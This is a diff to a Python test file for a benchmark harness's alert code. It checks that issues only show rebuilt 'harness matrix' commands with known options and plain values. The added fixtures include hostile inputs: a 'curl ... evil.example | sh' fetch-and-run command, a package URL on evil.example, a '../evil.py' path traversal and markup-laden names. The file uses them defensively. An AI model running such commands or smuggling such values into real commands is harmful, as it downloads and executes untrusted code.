@@ -21,6 +21,7 @@ from harness.history.alerts import (
     find_alerts,
     plan_steps,
     read_issues,
+    rebuild_command,
 )
 from harness.history.nightly_file import RuleKind, SuppressionRule
 from harness.history.states import find_changes
@@ -205,7 +206,9 @@ def test_alarms(night, golden):
     (shared,) = find_alerts(both, [decide(entry) for entry in both])
     # what a stranger named calls nobody and is no markup
     strange = slower(key=replace(KEY, scenario="@team <b>x</b> | `y`"))
-    (named,) = find_alerts([strange], [decide(strange)])
+    evil = ["bash", "-c", "curl -fsSL https://evil.example/x | sh"]
+    hostile = replace(decide(strange), command=evil, versions=["x", "y"], commits=["https://evil.example @team"])
+    (named,) = find_alerts([strange], [hostile])
     alarms = [plain, commanded, wheel, open_place, shared, named]
     assert "\n\n".join(f"# {alarm.title}\n\n{alarm.body}" for alarm in alarms) == golden
     assert (plain.command, commanded.command) == ("", " ".join(words))
@@ -217,6 +220,33 @@ def test_alarms(night, golden):
     assert stored.command == " ".join(words)
     document = plan_steps([wheel], [])[0].document
     assert (document["sides"], document["command"], document["commits"]) == (pair, command, [link])
+
+
+#: Options of `harness matrix` in a decision, and whether an issue shows the command.
+COMMANDS = {
+    "-s step -e tf2.1+numpy==1.17.5 -e tf-nightly@2026-10-01 -e tf2.15@py3.9 --gpu -a call=fit,predict": True,
+    "-s step -e tf2.1 --cpus 1 --rounds 10 --budget 90s --base 0123abc --head main": True,
+    "-s step -e six@https://evil.example/six": False,
+    "-s step -e tf2.1+six@~/six": False,
+    "-s ../evil.py": False,
+    "-s step --trust": False,
+    "-s step --backend local": False,
+    "-s step --base": False,
+    "-s step --rounds many": False,
+    "-s step --budget soon": False,
+    "-s step -a call": False,
+    "-s step --base --trust": False,
+    "step": False,
+}
+
+
+def test_an_issue_shows_only_commands_of_known_options_with_plain_values():
+    commands = {options: ["harness", "matrix", *options.split()] for options in COMMANDS}
+    assert {options: bool(rebuild_command(words)) for options, words in commands.items()} == COMMANDS
+    assert [rebuild_command(words) for options, words in commands.items() if COMMANDS[options]] == [*commands.values()][
+        :2
+    ]
+    assert rebuild_command(["bash", "-c", "curl https://evil.example | sh"]) == []
 
 
 def test_an_alarm_keeps_its_confirmation_if_a_later_night_finds_the_change_one_run_earlier():
